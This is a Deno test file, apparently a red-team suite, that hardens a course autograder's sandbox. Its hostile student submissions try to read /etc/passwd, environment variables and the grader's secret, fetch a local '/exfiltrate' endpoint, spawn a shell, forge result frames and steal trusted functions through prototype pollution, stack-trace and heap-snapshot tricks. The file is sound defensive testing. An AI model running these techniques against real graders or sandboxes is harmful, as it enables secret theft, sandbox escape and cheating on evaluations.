/**
 * Hostile submissions, graded by `deno task grade` as a process. Each attacker tries to
 * earn points without computing them — by reaching the solutions, the hidden tests or
 * the course secret, by forging the child's answers, or by tampering with the grader —
 * or to reach outside its sandbox. Every attack must score zero, leave no trace outside
 * the sandbox, and leave an honest classmate's grade untouched.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { gradeClass, ROOT, TEST_SECRET } from "./_workspace.ts";

const EXERCISE = "02-lms";
const SOLUTION = join(ROOT, "solutions", EXERCISE, "lms.ts");
const SIGNATURES = `
export function predict(theta: number[], x: number[]): number { return attack(); }
export function cost(theta: number[], X: number[][], y: number[]): number { return attack(); }
export function lmsUpdate(theta: number[], x: number[], y: number, alpha: number): number[] { return attack(); }
export function batchUpdate(theta: number[], X: number[][], y: number[], alpha: number): number[] { return attack(); }
export function stochasticEpoch(theta: number[], X: number[][], y: number[], alpha: number): number[] { return attack(); }
`;

/** How a run stopped for results over the sandbox's caps (bytes, or items) says so. */
const RESULTS_CAPPED =
  /results (took more than 1 MiB|held more than 65536 values, arrays and object keys)/;

/** Each attacker's lms.ts; `MARKER` and `PORT` are filled in per run. */
function attackers(marker: string, port: number): Record<string, string> {
  return {
    "reexport-solution": `export * from ${JSON.stringify(SOLUTION)};\n`,
    "relative-escape": `export * from "${"../".repeat(12)}${SOLUTION.slice(1)}";\n`,
    "dynamic-import-solution": `
      const solution: any = await import(${JSON.stringify("file://" + SOLUTION)}).catch(() => ({}));
      function attack(): any { throw new Error("no solution"); }
      export const predict = solution.predict ?? attack, cost = solution.cost ?? attack,
        lmsUpdate = solution.lmsUpdate ?? attack, batchUpdate = solution.batchUpdate ?? attack,
        stochasticEpoch = solution.stochasticEpoch ?? attack;`,
    "read-and-eval": `
      function attack(): any {
        const source = Deno.readTextFileSync(${JSON.stringify(SOLUTION)});
        return eval(source);
      }${SIGNATURES}`,
    "secret-hunt": `
      function attack(): any {
        const found = [
          () => Deno.env.get("GRADER_SECRET"),
          () => Deno.env.toObject(),
          () => Deno.readTextFileSync("/proc/self/environ"),
          () => Deno.readTextFileSync(${JSON.stringify(join(ROOT, ".grader", "secret"))}),
          () => Deno.readTextFileSync("/etc/passwd"),
        ].map((f) => { try { return f(); } catch { return undefined; } });
        try { Deno.writeTextFileSync(${
      JSON.stringify(marker)
    }, String(found)); } catch { /* denied */ }
        try { Deno.writeTextFileSync("/tmp/pwned", "x"); } catch { /* denied */ }
        return found.find(Boolean) ?? NaN;
      }${SIGNATURES}`,
    "network": `
      async function attack(): Promise<any> {
        await fetch("http://127.0.0.1:${port}/exfiltrate").catch(() => {});
        await Deno.connect({ hostname: "127.0.0.1", port: ${port} }).catch(() => {});
        return 0;
      }${SIGNATURES}`,
    "subprocess": `
      function attack(): any {
        new Deno.Command("/bin/sh", { args: ["-c", "touch ${marker}"] }).outputSync();
        return 0;
      }${SIGNATURES}`,
    "forged-frames": `
      function attack(): any {
        for (let i = 0; i < 200; i++) {
          console.log(JSON.stringify({ type: "case", case: i, results: [{ ok: true, value: 0, ms: 1 }] }));
          console.log("nonce " + JSON.stringify({ type: "done" }));
        }
        return { valueOf: () => 1, toString: () => "1" };
      }${SIGNATURES}`,
    "proxy-results": `
      function attack(): any {
        return new Proxy([], {
          get: (_t, key) => key === "length" ? 3 : typeof key === "string" ? 1 : undefined,
          has: () => true,
          ownKeys: () => ["0", "1", "2", "length"],
        });
      }${SIGNATURES}`,
    "monkey-patch": `
      JSON.stringify = () => '{"type":"done"}';
      Object.keys = () => [];
      Array.isArray = () => true;
      Number.isFinite = () => true;
      (globalThis as any).structuredClone = (x: unknown) => x;
      function attack(): any { return NaN; }${SIGNATURES}`,
    "exit-early": `
      function attack(): any { Deno.exit(0); }${SIGNATURES}`,
    "kv-and-ffi": `
      async function attack(): Promise<any> {
        try { await (Deno as any).openKv("${marker}"); } catch { /* denied */ }
        try { Deno.dlopen("libc.so.6", {}); } catch { /* denied */ }
        return 0;
      }${SIGNATURES}`,
  };
}

/** A class folder graded into an output folder, both removed when it is disposed. */
async function attackClass() {
  const submissions = await Deno.makeTempDir({ prefix: "attack-class-" });
  const out = await Deno.makeTempDir({ prefix: "attack-out-" });
  return {
    submissions,
    out,
    /** Writes one student's file of one exercise. */
    async put(student: string, exercise: string, entry: string, source: string) {
      await Deno.mkdir(join(submissions, student, exercise), { recursive: true });
      await Deno.writeTextFile(join(submissions, student, exercise, entry), source);
    },
    /** Runs `deno task grade` on the class for `exercises`, which must exit 0. */
    async grade(...exercises: string[]) {
      return await gradeClass(submissions, out, exercises);
    },
    /** A submission's results.json. */
    async results(student: string, exercise: string) {
      return JSON.parse(
        await Deno.readTextFile(join(out, "results", student, `${exercise}.json`)),
      ) as {
        score: number;
        max_score: number;
        output: string;
        tests: { tags: string[]; score: number; output: string }[];
      };
    },
    async [Symbol.asyncDispose]() {
      await Deno.remove(submissions, { recursive: true });
      await Deno.remove(out, { recursive: true });
    },
  };
}

/** Grades one student's submission of one exercise alone, as a class, and reads its results. */
async function gradeAlone(student: string, exercise: string, entry: string, source: string) {
  await using attack = await attackClass();
  await attack.put(student, exercise, entry, source);
  await attack.grade(exercise);
  return await attack.results(student, exercise);
}

Deno.test("grade gives every attack zero and leaves no trace outside the sandbox", async () => {
  await using attack = await attackClass();
  const { submissions, out } = attack;
  const marker = join(await Deno.makeTempDir({ prefix: "attack-marker-" }), "pwned");
  const connections: string[] = [];
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const accepting = (async () => {
    for await (const connection of listener) {
      connections.push("connected");
      connection.close();
    }
  })();
  const secretBefore = await Deno.readTextFile(join(ROOT, ".grader", "secret")).catch(() => "");
  try {
    const sources = attackers(marker, listener.addr.port);
    for (const [student, source] of Object.entries(sources)) {
      await attack.put(student, EXERCISE, "lms.ts", source);
    }
    // A symbolic link to the solution, and a helper file far over the size cap.
    await Deno.mkdir(join(submissions, "symlink", EXERCISE), { recursive: true });
    await Deno.symlink(SOLUTION, join(submissions, "symlink", EXERCISE, "lms.ts"));
    await Deno.mkdir(join(submissions, "huge-file", EXERCISE), { recursive: true });
    await Deno.copyFile(SOLUTION, join(submissions, "huge-file", EXERCISE, "lms.ts"));
    await Deno.writeFile(
      join(submissions, "huge-file", EXERCISE, "data.ts"),
      new Uint8Array(64 * 1024 * 1024).fill(32),
    );
    // An honest student graded in the same run.
    await Deno.mkdir(join(submissions, "honest", EXERCISE), { recursive: true });
    await Deno.copyFile(SOLUTION, join(submissions, "honest", EXERCISE, "lms.ts"));

    const { stdout, stderr } = await attack.grade(EXERCISE);
    const rows = (await Deno.readTextFile(join(out, "grades.csv"))).trim().split("\n").slice(1);
    const scores = Object.fromEntries(rows.map((row) => {
      const [student, score] = row.split(",");
      return [student, Number(score)];
    }));
    assert.equal(scores.honest, 10, "the honest student keeps full marks");
    for (const student of [...Object.keys(sources), "symlink", "huge-file"]) {
      assert.equal(scores[student], 0, `the "${student}" attack earned ${scores[student]} points`);
    }
    const refused = await attack.results("symlink", EXERCISE);
    assert.match(refused.output, /symbolic link/);

    await assert.rejects(Deno.stat(marker), Deno.errors.NotFound, "an attack wrote a file");
    assert.deepEqual(connections, [], "an attack reached a port on this machine");
    const secretAfter = await Deno.readTextFile(join(ROOT, ".grader", "secret")).catch(() => "");
    assert.equal(secretAfter, secretBefore, "the secret file changed");
    const everything = [stdout, stderr, await Deno.readTextFile(join(out, "summary.json"))];
    for await (const item of Deno.readDir(join(out, "results"))) {
      everything.push(await Deno.readTextFile(join(out, "results", item.name, `${EXERCISE}.json`)));
    }
    assert.ok(!everything.join("\n").includes(TEST_SECRET), "the course secret leaked");
  } finally {
    listener.close();
    await accepting.catch(() => {});
    await Deno.remove(join(marker, ".."), { recursive: true });
  }
});

/**
 * A dual.ts that computes nothing itself: it tries to take the trusted dual-number driver
 * (the harness's own file, importable by its path inside the sandbox) and to build every
 * operation from the driver's trusted formulas; without it, everything throws.
 */
const DRIVER_THIEF = `
import * as driverModule from "/sandbox/harness/drivers/dual.ts";
const registry = await import("/sandbox/harness/driver_registry.ts").catch(() => ({}));

type Pair = { re: number; eps: number };
type Formula = (xs: Pair | Pair[]) => Pair;
class Plain { constructor(readonly re: number, readonly eps = 0) {} }
const stolen: Record<string, unknown> | undefined = (() => {
  const driver = (registry as any).offeredDriver?.("dual") ?? (driverModule as any).driver;
  return typeof driver === "function" ? driver({ Dual: Plain }) : undefined;
})();
function formula(name: string): Formula {
  const f = stolen?.["trusted:" + name];
  if (typeof f !== "function") throw new Error("no trusted driver to steal");
  return f as Formula;
}
const lift = (o: Dual | number) => typeof o === "number" ? new Plain(o) : o;
const wrap = (p: Pair) => new Dual(p.re, p.eps);
export class Dual {
  readonly re: number;
  readonly eps: number;
  constructor(re: number, eps = 0) {
    formula("x^2");
    this.re = re;
    this.eps = eps;
  }
  add(o: Dual | number) { return wrap(formula("x*y")([new Plain(this.re + lift(o).re, this.eps + lift(o).eps), new Plain(1)])); }
  sub(o: Dual | number) { return this.add(typeof o === "number" ? -o : new Dual(-o.re, -o.eps)); }
  mul(o: Dual | number) { return wrap(formula("x*y")([this, lift(o)])); }
  div(o: Dual | number) { return wrap(formula("x/y")([this, lift(o)])); }
  pow(p: number) { return p === 2 ? wrap(formula("x^2")(this)) : wrap(formula("sqrt(x)")(this.pow(2 * p))); }
  neg() { return this.mul(-1); }
}
export const sin = (x: Dual) => wrap(formula("sin(x)/x")(x)).mul(x);
export const cos = (x: Dual) => wrap(formula("cos(x*y)")([x, new Plain(1)]));
export const exp = (x: Dual): Dual => { throw new Error("not stolen " + x); };
export const log = (x: Dual): Dual => { throw new Error("not stolen " + x); };
export function derivative(f: (x: Dual) => Dual, x: number) { return f(new Dual(x, 1)).eps; }
export function gradient(f: (xs: Dual[]) => Dual, xs: number[]) {
  return xs.map((_, i) => f(xs.map((v, j) => new Dual(v, i === j ? 1 : 0))).eps);
}
`;

Deno.test("grade gives nothing to code that imports the harness's trusted driver by its path", async () => {
  const results = await gradeAlone("thief", "01-dual-numbers", "dual.ts", DRIVER_THIEF);
  assert.equal(results.score, 0, results.output);
});

Deno.test("grade survives code Deno cannot parse, and a timer one exercise leaves for the next", async () => {
  await using attack = await attackClass();
  const solution = (id: string, entry: string) =>
    Deno.readTextFile(join(ROOT, "solutions", id, entry));
  // Nesting that overflows the stack of Deno's parser, before the harness starts.
  await attack.put(
    "parser-bomb",
    EXERCISE,
    "lms.ts",
    `export const x = ${"(".repeat(5000)}1${")".repeat(5000)};\n`,
  );
  // An honest dual.ts that leaves a timer behind: once its own cases have run, it breaks
  // Array.prototype.reduce for whatever runs next in the child (its honest lms.ts).
  await attack.put(
    "saboteur",
    "01-dual-numbers",
    "dual.ts",
    (await solution("01-dual-numbers", "dual.ts")) + `
let calls = 0;
const mul = Dual.prototype.mul;
Dual.prototype.mul = function (this: Dual, o: Dual | number) { calls++; return mul.call(this, o); };
function tick() {
  if (calls === 0) return void setTimeout(tick, 0);
  Array.prototype.reduce = function () { return 0; } as typeof Array.prototype.reduce;
}
setTimeout(tick, 0);
`,
  );
  await attack.put("saboteur", EXERCISE, "lms.ts", await solution(EXERCISE, "lms.ts"));
  await attack.grade("01-dual-numbers", EXERCISE);
  const bomb = await attack.results("parser-bomb", EXERCISE);
  assert.equal(bomb.score, 0);
  assert.match(bomb.output, /nested too deeply/);
  const lms = await attack.results("saboteur", EXERCISE);
  assert.equal(lms.score, lms.max_score, "lms.ts earns alone what it earns after dual.ts");
});

/**
 * lms.ts that tries to earn lmsUpdate()'s points with the grader's own lmsUpdate(): cost()
 * fails on purpose in the first run, so that it is run again isolated, with the grader's
 * lmsUpdate() in place of the student's (which throws); there it keeps that stand-in, and
 * the student's lmsUpdate() answers its own isolated cases with it.
 */
const STAND_IN_THIEF = `
let kept: typeof lmsUpdate | undefined;
const own = { lmsUpdate: undefined as unknown };
export function predict(theta: number[], x: number[]): number {
  return theta.reduce((sum, t, j) => sum + t * x[j], 0);
}
export function cost(theta: number[], X: number[][], y: number[]): number {
  own.lmsUpdate ??= lmsUpdateOwn;
  if (lmsUpdate === own.lmsUpdate) return NaN;
  kept = lmsUpdate;
  kept(theta, X[0], y[0], 0);
  return X.reduce((sum, x, i) => sum + (predict(theta, x) - y[i]) ** 2, 0) / 2;
}
export function lmsUpdate(theta: number[], x: number[], y: number, alpha: number): number[] {
  if (kept) return kept(theta, x, y, alpha);
  throw new Error("not written");
}
const lmsUpdateOwn = lmsUpdate;
export function batchUpdate(theta: number[], X: number[][], y: number[], alpha: number): number[] {
  const next = [...theta];
  X.forEach((x, i) => {
    const r = y[i] - predict(theta, x);
    x.forEach((xj, j) => next[j] += alpha * r * xj);
  });
  return next;
}
export function stochasticEpoch(theta: number[], X: number[][], y: number[], alpha: number): number[] {
  return X.reduce((t, x, i) => lmsUpdate(t, x, y[i], alpha), theta);
}
`;

/** softmax.ts whose softmax and logSoftmax only call each other: neither computes anything. */
const CIRCULAR = `
export const softmax = (z: number[]): number[] => logSoftmax(z).map(Math.exp);
export const logSoftmax = (z: number[]): number[] => softmax(z).map(Math.log);
export function crossEntropy(z: number[], label: number): number {
  return -logSoftmax(z)[label];
}
export function crossEntropyGrad(z: number[], label: number): number[] {
  return softmax(z).map((p, k) => p - (k === label ? 1 : 0));
}
export function predictProba(W: number[][], x: number[]): number[] {
  return softmax(W.map((w) => w.reduce((sum, wj, j) => sum + wj * x[j], 0)));
}
export function trainSoftmaxRegression(): number[][] {
  throw new Error("not written");
}
`;

/**
 * CIRCULAR, whose frames claim other stand-ins: JSON.stringify asks every object for an
 * inherited toJSON, so the harness's frames once said whatever this one wanted, and hid the
 * cycle (the red team's forgery).
 */
const FORGER = `${CIRCULAR}
Object.defineProperty(Object.prototype, "toJSON", {
  value(this: Record<string, unknown>) {
    return this && this.type === "case" && Array.isArray(this.standIns) && this.standIns.length > 0
      ? { ...this, standIns: ["crossEntropy"] }
      : this;
  },
  configurable: true,
});
`;

/** softmax() as predictProba() of the identity, with predictProba() left wrong on purpose. */
const INVERTER = `
const I = (n: number) => Array.from({ length: n }, (_, i) => Array.from({ length: n }, (_, j) => (i === j ? 1 : 0)));
export const softmax = (z: number[]): number[] => predictProba(I(z.length), z);
export const logSoftmax = (z: number[]): number[] => softmax(z).map(Math.log);
export const crossEntropy = (z: number[], label: number): number => -logSoftmax(z)[label];
export const crossEntropyGrad = (z: number[], label: number): number[] =>
  softmax(z).map((p, k) => p - (k === label ? 1 : 0));
export const predictProba = (W: number[][], x: number[]): number[] => W.map(() => 1 / W.length);
export function trainSoftmaxRegression(): number[][] {
  throw new Error("not written");
}
`;

/** Throws what the grader's crossEntropyGrad() gives on its hidden input: expected values. */
const ORACLE = `
export function softmax(z: number[]): number[] {
  let g: number[];
  try {
    g = crossEntropyGrad(z, 0);
  } catch {
    throw new Error("not written");
  }
  throw new Error("LEAK " + JSON.stringify(g.map((v, k) => (k === 0 ? v + 1 : v))));
}
export function logSoftmax(z: number[]): number[] {
  throw new Error("not written");
}
export function crossEntropy(z: number[], label: number): number {
  throw new Error("not written");
}
export function crossEntropyGrad(z: number[], label: number): number[] {
  throw new Error("not written");
}
export function trainSoftmaxRegression(): number[][] {
  throw new Error("not written");
}
export function predictProba(W: number[][], x: number[]): number[] {
  throw new Error("not written");
}
`;

Deno.test("grade rescues no function through a stand-in it kept, a forged frame, or an oracle", async () => {
  await using attack = await attackClass();
  await attack.put("thief", EXERCISE, "lms.ts", STAND_IN_THIEF);
  await attack.put("circular", "04-softmax", "softmax.ts", CIRCULAR);
  await attack.put("forger", "04-softmax", "softmax.ts", FORGER);
  await attack.put("inverter", "04-softmax", "softmax.ts", INVERTER);
  await attack.put("oracle", "04-softmax", "softmax.ts", ORACLE);
  await attack.grade(EXERCISE, "04-softmax");
  const points = (results: { tests: { tags: string[]; score: number }[] }, symbol: string) =>
    results.tests.filter((t) => t.tags.includes(symbol)).reduce((sum, t) => sum + t.score, 0);

  const thief = await attack.results("thief", EXERCISE);
  assert.equal(points(thief, "lmsUpdate"), 0, thief.output);
  // stochasticEpoch() is right given a right lmsUpdate(): its points are its own.
  assert.equal(points(thief, "stochasticEpoch"), 3, thief.output);

  const circular = await attack.results("circular", "04-softmax");
  assert.equal(points(circular, "softmax"), 0, circular.output);
  assert.equal(points(circular, "logSoftmax"), 0, circular.output);
  // crossEntropy() is right given a right logSoftmax(): rescued, off the cycle.
  assert.equal(points(circular, "crossEntropy"), 2, circular.output);

  const forger = await attack.results("forger", "04-softmax");
  assert.equal(forger.score, circular.score, forger.output);

  // predictProba() is built on softmax(), not the other way round: softmax() is never
  // rescued through predictProba(). (Its callers are, through the grader's softmax().)
  const inverter = await attack.results("inverter", "04-softmax");
  assert.equal(points(inverter, "softmax"), 0, inverter.output);
  assert.equal(points(inverter, "predictProba"), 0, inverter.output);

  const oracle = await attack.results("oracle", "04-softmax");
  assert.equal(oracle.score, 0, oracle.output);
  const shown = JSON.stringify(oracle);
  assert.ok(!shown.includes("LEAK"), "no text of the isolated run reaches the student");
});

/**
 * lms.ts that implements nothing and takes the driver's raw stand-ins in the run that
 * isolates its functions (red team, round 4): a patched `Array.prototype.map` that the
 * harness once called on each call's arguments, handing it the resolver of `{ $fn }`
 * markers; or a `$fn` on Object.prototype, which made every plain argument a marker. Each
 * function then touches the gated wrapper of one function it is built on, so that a
 * stand-in is recorded, and answers with its own raw stand-in.
 */
const RAW_STAND_INS = (via: "map" | "proto") => `
// deno-lint-ignore-file no-explicit-any
const NAMES = ["predict", "cost", "lmsUpdate", "batchUpdate", "stochasticEpoch"];
const RAW: Record<string, any> = {};
${
  via === "map"
    ? `const nativeMap = Array.prototype.map;
(Array.prototype as any).map = function (this: any, cb: any, thisArg?: any) {
  if (typeof cb === "function") {
    for (const n of NAMES) {
      try { const f = cb({ $fn: "standIn:" + n }); if (typeof f === "function") RAW[n] ??= f; } catch { /* none */ }
    }
  }
  return nativeMap.call(this, cb, thisArg);
};`
    : `let next = 0;
Object.defineProperty(Object.prototype, "$fn", {
  configurable: true,
  get() { return "standIn:" + NAMES[next++ % NAMES.length]; },
});`
}
function steal(args: any[]): void {
  for (const a of args) if (typeof a === "function" && a.name !== "standInFor") RAW[a.name] ??= a;
}
function touch(...names: string[]): void {
  for (const n of names) {
    const f = (BINDINGS as any)[n]();
    if (typeof f === "function" && f.name === "standInFor") { try { f(); } catch { /* recorded */ } return; }
  }
}
const BINDINGS = { predict: () => predict, lmsUpdate: () => lmsUpdate };
const answer = (name: string, a: any[], ...under: string[]) => {
  steal(a);
  if (RAW[name] === undefined) return NaN;
  touch(...under);
  return RAW[name](...a);
};
export function predict(...a: any[]): any { return answer("predict", a); }
export function cost(...a: any[]): any { return answer("cost", a, "predict"); }
export function lmsUpdate(...a: any[]): any { return answer("lmsUpdate", a, "predict"); }
export function batchUpdate(...a: any[]): any { return answer("batchUpdate", a, "predict", "lmsUpdate"); }
export function stochasticEpoch(...a: any[]): any { return answer("stochasticEpoch", a, "predict", "lmsUpdate"); }
`;

/**
 * dual.ts with no arithmetic of its own (red team, round 4): a setter on Object.prototype
 * caught a trusted function as the driver stored it in its table, and a sloppy getter's
 * Error.prepareStackTrace read the receiver of the driver's frame, its table of trusted
 * operations; every operation then delegated to them.
 */
const TRUSTED_OPS_THIEF = `
// deno-lint-ignore-file no-explicit-any
let T: any = undefined;
const KEY = "trusted:x*y";
const grab = new Function("cb", \`
  return { get re() {
    const old = Error.prepareStackTrace;
    Error.prepareStackTrace = (_e, cs) => cs;
    const o = {}; Error.captureStackTrace(o);
    const cs = o.stack;
    Error.prepareStackTrace = old;
    for (const c of cs) { const t = c.getThis(); if (t && typeof t.mul === "function" && typeof t.log === "function") { cb(t); break; } }
    return 1;
  }, eps: 0 };\`) as (cb: (t: any) => void) => any;
Object.defineProperty(Object.prototype, KEY, {
  configurable: true,
  set(this: any, v: any) {
    delete (Object.prototype as any)[KEY];
    Object.defineProperty(this, KEY, { value: v, writable: true, enumerable: true, configurable: true });
    try { v([grab((t) => (T = t)), 2]); } catch { /* ignore */ }
    // The trusted x*y itself is a product rule too.
    T ??= { mul: (x: any, y: any) => v([x, y]) };
  },
});
export class Dual {
  re: number;
  eps: number;
  constructor(re: number, eps = 0) { this.re = re; this.eps = eps; }
  add(o: Dual | number): Dual { return T.add(this, o); }
  sub(o: Dual | number): Dual { return T.sub(this, o); }
  mul(o: Dual | number): Dual { return T.mul(this, typeof o === "number" ? new Dual(o) : o); }
  div(o: Dual | number): Dual { return T.div(this, o); }
  pow(p: number): Dual { return T.pow(this, p); }
  neg(): Dual { return T.neg(this); }
}
export const sin = (x: Dual): Dual => T.sin(x);
export const cos = (x: Dual): Dual => T.cos(x);
export const exp = (x: Dual): Dual => T.exp(x);
export const log = (x: Dual): Dual => T.log(x);
export function derivative(f: (x: Dual) => Dual, x: number): number { return f(new Dual(x, 1)).eps; }
export function gradient(f: (xs: Dual[]) => Dual, xs: number[]): number[] {
  return xs.map((_, i) => f(xs.map((x, j) => new Dual(x, i === j ? 1 : 0))).eps);
}
`;

Deno.test("grade hands no stand-in or trusted operation to code that patches built-ins", async () => {
  await using attack = await attackClass();
  await attack.put("map", EXERCISE, "lms.ts", RAW_STAND_INS("map"));
  await attack.put("proto", EXERCISE, "lms.ts", RAW_STAND_INS("proto"));
  await attack.put("trusted-ops", "01-dual-numbers", "dual.ts", TRUSTED_OPS_THIEF);
  await attack.grade(EXERCISE, "01-dual-numbers");
  for (const student of ["map", "proto"]) {
    const results = await attack.results(student, EXERCISE);
    assert.equal(results.score, 0, `${student}: ${results.output}`);
  }
  // Its constructor, derivative() and gradient() are honest code: the operations get nothing.
  const thief = await attack.results("trusted-ops", "01-dual-numbers");
  const operations = thief.tests.filter((t) =>
    !t.tags.includes("Dual") && !t.tags.includes("derivative") && !t.tags.includes("gradient")
  );
  assert.ok(operations.length > 30);
  assert.deepEqual(operations.filter((t) => t.score > 0).map((t) => t.output), [], thief.output);
});

/** The end of an lms.ts whose predict() is right (through `dot`) and nothing else. */
const RIGHT_PREDICT_ONLY = `
function dot(theta: number[], x: number[]): number {
  let sum = 0;
  for (let j = 0; j < theta.length; j++) sum += theta[j] * x[j];
  return sum;
}
export function cost(): number { return NaN; }
export function lmsUpdate(): number[] { return []; }
export function batchUpdate(): number[] { return []; }
export function stochasticEpoch(): number[] { return []; }
`;

/** Asserts that every test of predict() passed, as honest code's would. */
function assertPredictPasses(
  results: { output: string; tests: { tags: string[]; score: number; output: string }[] },
): void {
  const predict = results.tests.filter((t) => t.tags.includes("predict"));
  assert.ok(predict.length > 0);
  assert.deepEqual(predict.filter((t) => t.score === 0).map((t) => t.output), [], results.output);
}

/**
 * lms.ts whose predict() is right, and which first looks for the harness's nonce in a heap
 * snapshot (`node:v8` needs no permission) to forge a failed first case with every
 * candidate (red teams, rounds 4 and 5: a forged frame once hid a cycle of stand-ins).
 */
const NONCE_HUNTER = `
// deno-lint-ignore-file no-explicit-any
import * as v8 from "node:v8";
let hunted = false;
async function candidates(): Promise<string[]> {
  let text = "";
  for await (const chunk of (v8 as any).getHeapSnapshot()) text += chunk;
  return [...new Set([...text.matchAll(/"([0-9a-f]{16,64})"/g)].map((m) => m[1]))];
}
export async function predict(theta: number[], x: number[]): Promise<number> {
  if (!hunted) {
    hunted = true;
    const bad = { ok: false, error: "FORGED FRAME ACCEPTED", ms: 0 };
    for (const nonce of await candidates()) {
      const frame = JSON.stringify({ type: "case", part: 0, case: 0, results: [bad, bad, bad, bad] });
      Deno.stdout.writeSync(new TextEncoder().encode(nonce + " " + frame + "\\n"));
    }
  }
  return dot(theta, x);
}
${RIGHT_PREDICT_ONLY}`;

Deno.test("grade keeps the frames' nonce out of a heap snapshot, so no frame can be forged", async () => {
  const results = await gradeAlone("hunter", EXERCISE, "lms.ts", NONCE_HUNTER);
  assertPredictPasses(results);
  assert.doesNotMatch(JSON.stringify(results), /FORGED/);
});

/**
 * lms.ts that reads the child's standard input as text, which needs no permission: by a
 * static import, read as Deno loads the module, and by literal dynamic imports, read once
 * it runs (red team, round 6: standard input was once the request's file, which held the
 * nonce, the hidden inputs and the drivers' source).
 */
const STDIN_READER = `
import atLoad from "/proc/1/fd/0" with { type: "text" };
const found: string[] = [atLoad.includes('"parts"') ? "REQUEST" : \`\${atLoad.length}\`];
const reads = [
  () => import("/proc/1/fd/0", { with: { type: "text" } }),
  () => import("/proc/2/fd/0", { with: { type: "text" } }),
  () => import("/proc/self/fd/0", { with: { type: "text" } }),
  () => import("/dev/stdin", { with: { type: "text" } }),
];
for (const read of reads) {
  try {
    const text = (await read()).default as string;
    found.push(text.includes('"parts"') ? "REQUEST" : \`\${text.length}\`);
  } catch {
    found.push("refused");
  }
}
${SIGNATURES}
function attack(): never {
  throw new Error("standard input read: " + found.join(","));
}
`;

Deno.test("grade leaves nothing of the request to read on the child's standard input", async () => {
  const results = await gradeAlone("stdin", EXERCISE, "lms.ts", STDIN_READER);
  assert.equal(results.score, 0);
  const shown = JSON.stringify(results);
  assert.match(shown, /standard input read: /, "the module loaded and ran");
  assert.doesNotMatch(shown, /REQUEST/);
});

/**
 * lms.ts that hooks every typed array made from another (red team, round 7): a constructor
 * of its own on Uint8Array.prototype, and a species on all typed arrays, which `subarray`
 * asked for with a frame's bytes, the nonce with them, and whose answer the harness wrote.
 */
const SPECIES_HOOK = `
// deno-lint-ignore-file no-explicit-any
const seen: string[] = [];
function Species(this: any, buffer: any, offset?: number, length?: number) {
  const view = new Uint8Array(buffer, offset, length);
  const text = new TextDecoder().decode(view);
  if (text.includes('"type"')) seen.push("CAPTURED " + text.slice(0, 40));
  return view;
}
(Uint8Array.prototype as any).constructor = { [Symbol.species]: Species };
Object.defineProperty(Object.getPrototypeOf(Uint8Array), Symbol.species, { get: () => Species });
export function predict(theta: number[], x: number[]): number {
  if (seen.length > 0) throw new Error(seen.join("; "));
  let sum = 0;
  for (let j = 0; j < theta.length; j++) sum += theta[j] * x[j];
  return sum;
}
export function cost(): number { throw new Error("seen: " + (seen.join("; ") || "nothing")); }
export function lmsUpdate(): number[] { return []; }
export function batchUpdate(): number[] { return []; }
export function stochasticEpoch(): number[] { return []; }
`;

Deno.test("grade hands a frame's bytes to no species a student put on typed arrays", async () => {
  const results = await gradeAlone("species", EXERCISE, "lms.ts", SPECIES_HOOK);
  const shown = JSON.stringify(results);
  assert.match(shown, /seen: nothing/, "the hook ran and saw no frame");
  assert.doesNotMatch(shown, /CAPTURED/);
});

/**
 * lms.ts with a correct predict() that first puts a `get` on Object.prototype (red team,
 * round 8): every property descriptor written as a literal then inherited it, so that the
 * harness's own definitions threw and the run ended as a crash.
 */
const DESCRIPTOR_GETTER = `
Object.defineProperty(Object.prototype, "get", { get() { return undefined; }, configurable: true });
export function predict(theta: number[], x: number[]): number {
  return dot(theta, x);
}
${RIGHT_PREDICT_ONLY}`;

Deno.test("grade answers code that puts a get on Object.prototype as it answers any", async () => {
  const results = await gradeAlone("getter", EXERCISE, "lms.ts", DESCRIPTOR_GETTER);
  assertPredictPasses(results);
});

/**
 * lms.ts with a correct predict() whose cost() throws, and whose lmsUpdate() returns, a
 * Proxy with a `getPrototypeOf` trap that throws it again (red team, round 10): the
 * harness's catch asked `instanceof` of it, outside any try, and the child exited with
 * status 70, "Your code stopped the program", in place of each call's own reason.
 */
const PROTOTYPE_TRAP = `
// deno-lint-ignore no-explicit-any
const evil: any = new Proxy(new Error("x"), {
  get(target, key) { if (key === "message") throw evil; return Reflect.get(target, key); },
  getPrototypeOf() { throw evil; },
});
export function predict(theta: number[], x: number[]): number {
  return dot(theta, x);
}
function dot(theta: number[], x: number[]): number {
  let sum = 0;
  for (let j = 0; j < theta.length; j++) sum += theta[j] * x[j];
  return sum;
}
export function cost(): number { throw evil; }
export function lmsUpdate(): number[] { return evil; }
export function batchUpdate(): number[] { return []; }
export function stochasticEpoch(): number[] { return []; }
`;

Deno.test("grade reports a thrown or returned Proxy that traps its prototype as that call's failure", async () => {
  const results = await gradeAlone("trap", EXERCISE, "lms.ts", PROTOTYPE_TRAP);
  assertPredictPasses(results);
  assert.doesNotMatch(results.output, /stopped the program|exit code/);
  for (const symbol of ["cost", "lmsUpdate"]) {
    const tests = results.tests.filter((t) => t.tags.includes(symbol));
    assert.ok(tests.length > 0);
    for (const test of tests) {
      assert.equal(test.score, 0);
      assert.match(test.output, /threw a value that cannot be described/, test.output);
    }
  }
});

/**
 * lms.ts that reads the grader's drivers as text: an import `with { type: "text" }` needs no
 * permission, so any file of the sandbox is readable. The drivers hold trusted stand-ins
 * for every graded function; the red team ran one from its source for full marks.
 */
const DRIVER_READER = `
const found: string[] = [];
// Literal specifiers: a computed one would need read permission.
const reads = [
  () => import("/sandbox/harness/drivers/lms.ts", { with: { type: "text" } }),
  () => import("/sandbox/harness/drivers/dual.ts", { with: { type: "text" } }),
  () => import("/sandbox/harness/drivers/adaboost.ts", { with: { type: "text" } }),
  () => import("/sandbox/harness/drivers/softmax.ts", { with: { type: "text" } }),
  () => import("/sandbox/harness/calls_test.ts", { with: { type: "text" } }),
  () => import("/sandbox/harness/harness.ts", { with: { type: "text" } }),
];
for (const read of reads) {
  try {
    const text = (await read()).default;
    if (typeof text === "string" && text.length > 0) {
      found.push(
        text.includes("standIn:") || text.includes("offerDriver(")
          ? "driver"
          : text.includes("Deno.test(")
          ? "test"
          : "harness",
      );
    }
  } catch {
    // Not there.
  }
}
${SIGNATURES}
function attack(): never {
  throw new Error("drivers read: " + (found.join(",") || "none"));
}
`;

Deno.test("grade keeps the drivers and the harness's tests out of the sandbox, where text imports read anything", async () => {
  const results = await gradeAlone("reader", EXERCISE, "lms.ts", DRIVER_READER);
  assert.equal(results.score, 0);
  // The harness's own files are there, and hold nothing to compute with; no driver or test is.
